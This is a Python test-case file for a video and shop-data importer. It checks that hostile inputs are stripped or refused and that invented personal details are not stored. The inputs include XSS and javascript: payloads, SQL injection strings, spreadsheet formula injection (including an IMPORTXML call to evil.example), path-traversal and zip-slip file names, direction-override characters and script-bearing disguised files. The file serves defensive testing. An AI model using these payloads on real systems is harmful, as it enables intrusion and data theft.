"""Names and texts that want to be run, opened or followed, and people's details that may not be kept."""

from __future__ import annotations

import json

from core.imports.model import Ask
from tests.corpus.cases import Accepted, Case, Refused
from tests.corpus.making import AFFILIATE, SHOPIFY, counts, csv_of, link, more, order, video, videos, zipped


def named(name: str, file: str, shown: str, never: tuple[str, ...] = ()) -> Case:
    """Return a case of a file name: how it is kept."""
    values = {**counts(7), "import_batch file_name": [(shown,)]}
    return Case(
        name=name,
        file=file,
        data=videos("7"),
        outcome=Accepted(format="video_metadata", values=values),
        never=never,
    )


def captioned(name: str, *texts: str) -> Case:
    rows = [(link(at), 10, text, "2026-03-01") for at, text in enumerate(texts, start=1)]
    values = {"video_fact video_id caption": [(video(at), text) for at, text in enumerate(texts, start=1)]}
    return Case(
        name=name,
        file="a.csv",
        data=csv_of(("Video link", "Views", "Caption", "scraped_at"), *rows),
        outcome=Accepted(format="video_metadata", values=values),
    )


PEOPLE = ("Jane", "Canary", "900123", "shop.example", "buyer1")
FLYER = (
    "Attributed Touch Type", "Event Time", "Event Name", "Event Value", "Event Revenue", "Event Revenue Currency", "Media Source", "Campaign",
    "AppsFlyer ID", "Install Time", "IP", "Advertising ID", "Customer User ID", "App ID", "City",
)  # fmt: skip

CASES = (
    captioned("markdown", "![x](http://evil.example/p.png)", "# big", "[click](javascript:alert(1))", "**bold** `code` :smile:", "$x^2$"),
    captioned("html", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "&lt;b&gt;", "<!-- -->"),
    captioned("sql", "'); DROP TABLE stat;--", "' OR 1=1 --", ":name ?", "%s"),
    captioned("formulas", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", '=IMPORTXML("http://evil.example","//a")'),
    captioned("direction-signs", "cod\u202egpj.exe", "\u2066isolated\u2069"),
    captioned("escape-sequences", "\x1b[31mred\x1b[0m", "bell\x07"),
    named("file-name-that-climbs", "../../../etc/passwd.csv", "passwd.csv", never=("../",)),
    named("file-name-of-windows", "C:\\Users\\mia\\report.csv", "report.csv", never=("Users",)),
    named("file-name-with-html", "<img src=x onerror=alert(1)>.csv", "<img src=x onerror=alert(1)>.csv"),
    named("file-name-with-direction-signs", "re\u202evsc.port.csv", "revsc.port.csv", never=("\u202e",)),
    named("file-name-with-escapes", "a\n\x1b[31mb.csv", "a[31mb.csv", never=("\x1b",)),
    named("file-name-that-is-a-formula", "=cmd|'calc'!A0.csv", "=cmd|'calc'!A0.csv"),
    named("file-name-with-markdown", "![x](http:evil.example).csv", "![x](http:evil.example).csv"),
    Case(
        name="file-name-of-five-thousand-signs",
        file="n" * 5_000 + ".csv",
        data=videos("7"),
        outcome=Accepted(format="video_metadata", values={**counts(7), "import_batch file_name": [("n" * 115 + "….csv",)]}),
    ),
    Case(
        name="members-that-climb",
        file="a.zip",
        data=zipped({"../../evil.csv": videos("7")}),
        outcome=Accepted(format="video_metadata", values={**counts(7), "import_batch file_name": [("a.zip/evil.csv",)]}),
        never=("../",),
    ),
    Case(
        name="members-with-absolute-names",
        file="a.zip",
        data=zipped({"/etc/cron.d/evil.csv": videos("7"), "C:\\Windows\\evil2.csv": videos("8", "9")}),
        outcome=(Accepted(format="video_metadata", values={}), Accepted(format="video_metadata", values={})),
        never=("a.zip//", "C:\\"),
    ),
    Case(
        name="buyers-are-not-kept",
        file="orders_export_1.csv",
        data=csv_of(SHOPIFY, order(1, Note_Attributes="gift for: Jane Canary\nphone: 07700 900123\nutm_source: tiktok\nutm_campaign: spring"), more(1)),
        outcome=Accepted(
            format="shopify_orders",
            values={"shop_order order_name total items": [("#1001", 2_000, 3)], "order_claim kind": [("link",)]},
        ),
        never=PEOPLE,
    ),
    Case(
        name="buyers-are-not-kept-with-rows-set-aside",
        file="orders_export_1.csv",
        data=csv_of(SHOPIFY, order(1), order(2, Total="Jane Canary owes 12")),
        outcome=Accepted(format="shopify_orders", values={"shop_order order_name": [("#1001",)]}, aside={"not-a-number": 1}),
        never=PEOPLE[1:],
    ),
    Case(
        name="buyers-are-not-kept-when-a-row-shifts",
        file="orders_export_1.csv",
        data=csv_of(SHOPIFY, *[order(at) for at in range(1, 8)], ["#2000", "extra", *order(9)[1:]]),
        outcome=Accepted(format="shopify_orders", values={"shop_order order_name": [(f"#{1000 + at}",) for at in range(1, 8)]}, aside={"row-of-other-width": 1}),
        never=("Jane", "Canary", "900123", "shop.example"),
    ),
    Case(
        name="devices-and-addresses-are-not-kept",
        file="events.csv",
        data=csv_of(FLYER, ("click", "2026-02-10 10:00:00", "af_purchase", '{"email":"jane@canary.example"}', "12.50", "EUR", "mia_link", "spring", "1700000000000-1234567", "2026-02-09 10:00:00", "203.0.113.77", "38400000-8cf0-11bd", "jane@canary.example", "id123", "Canaryville")),
        answers={(Ask.ZONE, ""): "UTC"},
        outcome=Accepted(format="appsflyer", values={"app_event event revenue currency media_source": [("af_purchase", 1_250, "EUR", "mia_link")]}),
        never=("canary", "203.0.113.77", "38400000", "1234567"),
    ),
    Case(
        name="commenters-are-not-kept",
        file="comments.json",
        data=json.dumps([{"videoWebUrl": link(1), "cid": "7600000000000000001", "text": "@jane.canary see, write to jane@canary.example or +44 7700 900123", "createTime": 1_772_000_000, "uniqueId": "jane.canary", "uid": "6899999999999999999", "avatarThumbnail": "https://cdn.example/jane.jpg"}]).encode(),
        outcome=Accepted(format="comments", values={"comment video_id is_creator": [(video(1), 0)]}),
        never=("jane", "canary", "900123", "6899999999999999999"),
    ),
    Case(
        name="landing-pages-lose-their-queries",
        file="data-export.csv",
        data=b"# ----------------------------------------\n# Start date: 20260201\n# End date: 20260202\nLanding page + query string,Session source / medium,Session campaign,Sessions\n/hat?email=jane%40canary.example&utm_source=x,tiktok / creator,spring,12\n",
        outcome=Accepted(format="ga4_report", values={"stat campaign_hint sessions": [("spring", 12)]}),
        never=("canary",),
    ),
    Case(
        name="creator-names-that-are-formulas",
        file="affiliate.csv",
        data=csv_of(AFFILIATE, ("577000111222333444", "1729000000000000101", "=1+1", "30.00", "30.00", "EUR", "1", "No", "Completed", "=HYPERLINK(1)", "Video", video(1), "2026-02-10T11:00:00Z")),
        outcome=Accepted(format="tiktok_shop_affiliate_orders", values={"order_line product": [("=1+1",)], "order_claim key": []}, warns=("order-without-creator",)),
    ),
    Case(name="web-page-with-a-script-as-xls", file="report.xls", data=b"<html><script>alert(1)</script><table><tr><td>Views</td></tr></table></html>", outcome=Refused(code="file-disguised", word="web page")),
    Case(name="drawing-with-a-script", file="a.csv", data=b'<?xml version="1.0"?><svg onload="alert(1)"/>', outcome=Refused(code="file-disguised", word="XML")),
)  # fmt: skip
